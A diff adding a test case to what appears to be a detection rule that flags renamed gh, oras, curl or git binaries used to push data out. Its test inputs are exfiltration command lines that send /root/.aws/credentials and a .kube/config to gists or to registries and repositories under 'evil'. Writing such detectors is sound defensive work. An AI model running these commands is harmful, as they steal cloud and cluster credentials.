@@ -111,6 +111,28 @@ describe('a forge or registry client copied under another name', () => {
     });
   });
 
+  it("is recognised under another table tool's name too, when that tool's own reading is no push", () => {
+    // Found by review of this rule: a copy named `git` or `curl` skipped it, since a table tool had the name.
+    expect(recognize('/tmp/.x/git', 'gist create /home/app/.kube/config')).toEqual({ tool: 'gh', renamed: true });
+    expect(recognize('/dev/shm/curl', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toEqual({
+      tool: 'oras',
+      renamed: true,
+    });
+    expect(recognize('/tmp/.x/git', '-d @/root/.aws/credentials https://api.github.com/gists')).toEqual({
+      tool: 'curl',
+      renamed: true,
+    });
+    // The tool's own push, download or read decides: a git there still pushes as git, fetches as git.
+    expect(recognize('/tmp/.x/git', 'push https://github.com/evil/x.git HEAD')).toEqual({
+      tool: 'git',
+      renamed: false,
+    });
+    expect(recognize('/tmp/.x/git', 'fetch origin')).toEqual({ kind: 'download' });
+    expect(recognize('/tmp/kubectl', 'cp ./dump.sql prod/db-0:/tmp/dump.sql')).toBeNull();
+    expect(recognize('/tmp/docker', 'cp web:/etc/nginx/nginx.conf /tmp/nginx.conf')).toBeNull();
+    expect(recognize('/tmp/gh', 'api -X GET repos/acme/app')).toBeNull();
+  });
+
   it('not elsewhere, nor when the command line names no registry for an image client', () => {
     expect(recognize('/usr/local/bin/x', 'gist create /home/app/.kube/config')).toBeNull();
     expect(recognize('/opt/app/bin/sync', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toBeNull();
